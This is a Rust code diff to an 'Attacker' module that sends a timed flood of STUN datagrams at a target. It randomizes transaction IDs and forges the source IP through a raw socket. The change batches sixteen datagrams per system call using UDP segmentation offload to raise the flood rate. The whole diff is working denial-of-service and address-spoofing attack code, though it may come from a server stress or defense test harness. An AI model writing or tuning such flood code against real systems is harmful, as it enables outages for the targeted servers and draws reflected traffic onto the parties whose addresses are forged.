@@ -6,10 +6,11 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
 use engine::base::time::now;
+use quinn_udp::{Transmit, UdpSocketState};
 use rand::rngs::StdRng;
 use rand::seq::IndexedRandom;
 use rand::{Rng, SeedableRng};
-use socket2::{Domain, Protocol, Socket, Type};
+use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 
 use crate::Outcome;
 
@@ -47,6 +48,17 @@ pub struct Flooded {
     pub forged: u64,
     /// Datagrams that came back to its own sockets.
     pub answered: u64,
+}
+
+/// So many datagrams go to the system in one call.
+const AT_ONCE: u64 = 16;
+
+/// Sends `bytes` as datagrams of `length` (UDP_SEGMENT). Whether the system took them.
+fn send_apart(socket: &UdpSocket, bytes: &[u8], length: usize, to: &SockAddr) -> bool {
+    let state = UdpSocketState::new(socket.into());
+    let Some(destination) = to.as_socket() else { return false };
+    let transmit = Transmit { destination, ecn: None, contents: bytes, segment_size: Some(length), src_ip: None };
+    state.is_ok_and(|state| state.try_send(socket.into(), &transmit).is_ok())
 }
 
 fn answers(sockets: &[UdpSocket]) -> u64 {
@@ -99,20 +111,25 @@ impl Attacker {
         own.iter().try_for_each(|socket| socket.set_nonblocking(true)).map_err(failed)?;
         let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW))).ok();
         let (start, mut flooded, mut bytes) = (now(), Flooded::default(), stun());
+        let (length, to_all) = (bytes.len(), SocketAddr::V4(to).into());
+        let mut many = Vec::new();
         while now() - start < time {
             let due = ((now() - start).as_secs_f64() * f64::from(rate)) as u64;
             while flooded.sent < due {
                 // Another transaction each time, and now and then another name.
-                self.random.fill(&mut bytes[8..20]);
-                self.random.fill(&mut bytes[24..28]);
-                match &raw {
-                    Some(raw) if flooded.sent % 2 == 1 => {
-                        let _ = raw.send_to(&forge(as_from, to, &bytes), &SocketAddr::V4(to).into());
+                many.clear();
+                for _ in 0..AT_ONCE {
+                    self.random.fill(&mut bytes[8..20]);
+                    self.random.fill(&mut bytes[24..28]);
+                    if let Some(raw) = &raw {
+                        let _ = raw.send_to(&forge(as_from, to, &bytes), &to_all);
                         flooded.forged += 1;
+                        flooded.sent += 1;
                     }
-                    _ => drop(own[flooded.sent as usize / 2 % own.len()].send_to(&bytes, to)),
+                    many.extend(&bytes);
                 }
-                flooded.sent += 1;
+                let socket = &own[flooded.sent as usize % own.len()];
+                flooded.sent += AT_ONCE * u64::from(send_apart(socket, &many, length, &to_all));
             }
             flooded.answered += answers(&own);
             std::thread::sleep(Duration::from_millis(1));
